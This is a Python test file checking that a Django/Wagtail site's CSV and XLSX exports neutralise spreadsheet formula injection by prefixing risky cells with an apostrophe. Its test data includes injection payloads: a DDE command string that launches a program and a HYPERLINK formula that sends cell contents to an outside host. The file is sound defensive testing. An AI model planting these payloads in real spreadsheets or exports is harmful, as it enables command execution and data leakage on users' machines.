import csv
from datetime import UTC, datetime
from io import BytesIO, StringIO
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone
from wagtail.models import Locale, Page

from ioc_site.common.spreadsheets import csv_lines, neutralise, write_xlsx

DANGEROUS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://x.vn?"&A1,"Xem")',
]
HARMLESS = ["Ổ gà đường Hùng Vương", "-5", "+84912345678", "-1.234,5", "", "12%", -5, 3.5, None, "1089/QĐ-UBND"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_would_be_a_formula_is_kept_text(value: str) -> None:
    assert neutralise(value) == f"'{value}"


@pytest.mark.parametrize("value", HARMLESS)
def test_other_values_stay_as_they_are(value: Any) -> None:
    assert neutralise(value) == value


def test_csv_opens_in_excel_with_its_letters_and_without_formulas() -> None:
    text = "".join(csv_lines(["Tiêu đề"], ([value] for value in DANGEROUS)))
    assert text.startswith("\ufeffTiêu đề\r\n")
    rows = list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [row[0] for row in rows[1:]] == [f"'{value}" for value in DANGEROUS]


def test_xlsx_holds_no_formula() -> None:
    output = BytesIO()
    moment = datetime(2024, 5, 31, 18, 30, tzinfo=UTC)
    write_xlsx(output, ["=A1", "Lúc"], [["=1+1", moment], ["a\x00\x0bb", None], [5, None]])
    sheet = openpyxl.load_workbook(output)["Dữ liệu"]
    values = list(sheet.iter_rows(values_only=True))
    assert values == [("'=A1", "Lúc"), ("'=1+1", datetime(2024, 6, 1, 1, 30)), ("ab", None), (5, None)]  # noqa: DTZ001


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_wagtails_own_exports_are_neutralised_too(admin_client: Client, kind: str) -> None:
    Locale.objects.get_or_create(language_code="vi")
    root = Page.objects.filter(depth=1).first() or Page.add_root(title="Root", slug="root")
    root.add_child(instance=Page(title="=1+1", slug="cong-thuc", last_published_at=timezone.now()))
    response = admin_client.get("/quan-tri/reports/aging-pages/", {"export": kind})
    content = b"".join(response.streaming_content)
    if kind == "csv":
        assert content.decode().startswith("\ufeff")
        cells = [cell for row in csv.reader(StringIO(content.decode())) for cell in row]
    else:
        cells = [cell.value for row in openpyxl.load_workbook(BytesIO(content)).active for cell in row]
    assert "'=1+1" in cells
    assert "=1+1" not in cells
